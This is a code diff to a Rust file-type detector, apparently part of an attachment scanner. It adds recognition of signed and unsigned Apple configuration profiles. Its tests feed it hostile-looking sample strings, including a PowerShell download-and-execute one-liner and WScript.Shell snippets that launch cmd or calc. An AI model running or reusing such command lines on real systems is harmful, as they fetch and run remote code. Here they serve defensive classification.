@@ -159,11 +159,25 @@ pub fn detect(b: &[u8]) -> Detected {
     if at(b, 0, b"{\\rtf") {
         return Detected::kind("rtf");
     }
+    if is_signed_profile(b) {
+        return Detected::kind("mobileconfig");
+    }
     if at(b, 0, b"MZ") && b.len() >= 64 {
         // A DOS header whose PE header is cut off or misplaced is still an executable to Windows' loader.
         return Detected::kind("pe");
     }
     text(b)
+}
+
+/// CMS signedData OID 1.2.840.113549.1.7.2, as DER.
+const CMS_SIGNED_DATA: &[u8] = &[0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x07, 0x02];
+
+/// A signed Apple configuration profile: a CMS envelope (DER SEQUENCE with the signedData OID near the start)
+/// around a property list with `PayloadType` keys.
+fn is_signed_profile(b: &[u8]) -> bool {
+    at(b, 0, &[0x30])
+        && memmem::find(&b[..b.len().min(32)], CMS_SIGNED_DATA).is_some()
+        && memmem::find(b, b"<key>PayloadType</key>").is_some()
 }
 
 /// "MZ" with a PE signature where e_lfanew points.
@@ -338,7 +352,12 @@ fn ole(b: &[u8]) -> Detected {
 /// bytes look binary.
 fn text_sample(b: &[u8]) -> Option<String> {
     let mut s: Vec<u8> = if at(b, 0, &[0xFF, 0xFE]) {
-        b.get(2..).unwrap_or_default().chunks_exact(2).take(TEXT_SNIFF).map(|c| if c[1] == 0 { c[0] } else { b'?' }).collect()
+        b.get(2..)
+            .unwrap_or_default()
+            .chunks_exact(2)
+            .take(TEXT_SNIFF)
+            .map(|c| if c[1] == 0 { c[0] } else { b'?' })
+            .collect()
     } else {
         let b = b.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap_or(b);
         b[..b.len().min(TEXT_SNIFF)].to_vec()
@@ -392,8 +411,7 @@ fn text(b: &[u8]) -> Detected {
     if has("<hta:application") {
         return Detected::kind("hta");
     }
-    if (t.starts_with("<job") || t.starts_with("<package") || t.starts_with("<?xml")) && has("<job") && has("<script")
-    {
+    if (t.starts_with("<job") || t.starts_with("<package") || t.starts_with("<?xml")) && has("<job") && has("<script") {
         return Detected::kind("wsf");
     }
     if HTML_MARKERS.iter().any(|m| first_kib.contains(m)) {
@@ -401,6 +419,9 @@ fn text(b: &[u8]) -> Detected {
     }
     if t.starts_with("begin:vcalendar") {
         return Detected::kind("ics");
+    }
+    if has("<plist") && has("<key>payloadtype</key>") {
+        return Detected::kind("mobileconfig");
     }
     if t.starts_with("<?xml") {
         return Detected::kind("xml");
@@ -503,7 +524,8 @@ mod tests {
         let docm = zip_with(&[("[Content_Types].xml", false), ("word/vbaProject.bin", false)]);
         let d = detect(&docm);
         assert_eq!((d.kind, d.macros), (Some("docm"), true));
-        let xlsm = zip_with(&[("[Content_Types].xml", false), ("xl/workbook.xml", false), ("xl/vbaProject.bin", false)]);
+        let xlsm =
+            zip_with(&[("[Content_Types].xml", false), ("xl/workbook.xml", false), ("xl/vbaProject.bin", false)]);
         assert_eq!(kind(&xlsm), Some("xlsm"));
         assert_eq!(kind(&zip_with(&[("[Content_Types].xml", false), ("xl/workbook.xml", false)])), Some("xlsx"));
         assert_eq!(kind(&zip_with(&[("[Content_Types].xml", false), ("ppt/presentation.xml", false)])), Some("pptx"));
@@ -582,15 +604,29 @@ mod tests {
         // UTF-16LE with a BOM.
         let utf16: Vec<u8> = [0xFF, 0xFE].into_iter().chain(utf16le("<html><body>hi")).collect();
         assert_eq!(kind(&utf16), Some("html"));
-        assert_eq!(kind(b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>x</script></svg>"), Some("svg"));
+        assert_eq!(
+            kind(b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>x</script></svg>"),
+            Some("svg")
+        );
         assert_eq!(kind(b"<html><head><HTA:APPLICATION ID=x></head>"), Some("hta"));
         assert_eq!(kind(b"var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"cmd\");"), Some("javascript"));
         assert_eq!(kind(b"Dim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\""), Some("vbscript"));
         assert_eq!(kind(b"<job id=\"a\"><script language=\"JScript\">x</script></job>"), Some("wsf"));
         assert_eq!(kind(b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x')"), Some("powershell"));
         assert_eq!(kind(b"@echo off\r\nstart calc.exe"), Some("batch"));
+        let profile = b"<?xml version=\"1.0\"?><!DOCTYPE plist><plist version=\"1.0\"><dict><key>PayloadType</key>\
+            <string>com.apple.mail.managed</string></dict></plist>";
+        assert_eq!(kind(profile), Some("mobileconfig"));
+        let mut signed = vec![0x30, 0x82, 0x14, 0x5A];
+        signed.extend_from_slice(CMS_SIGNED_DATA);
+        signed.extend_from_slice(&[0xA0, 0x82, 0, 0]);
+        signed.extend_from_slice(profile);
+        assert_eq!(kind(&signed), Some("mobileconfig"));
         assert_eq!(kind(b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR"), Some("ics"));
-        assert_eq!(kind(b"Received: from x\r\nFrom: a@b.example\r\nSubject: hi\r\nTo: c@d.example\r\n\r\nbody"), Some("eml"));
+        assert_eq!(
+            kind(b"Received: from x\r\nFrom: a@b.example\r\nSubject: hi\r\nTo: c@d.example\r\n\r\nbody"),
+            Some("eml")
+        );
         assert_eq!(kind(b"Dear customer, please find the invoice."), Some("text"));
         assert_eq!(kind(&[0x00, 0x01, 0x02, 0x03, 0x04]), None);
     }
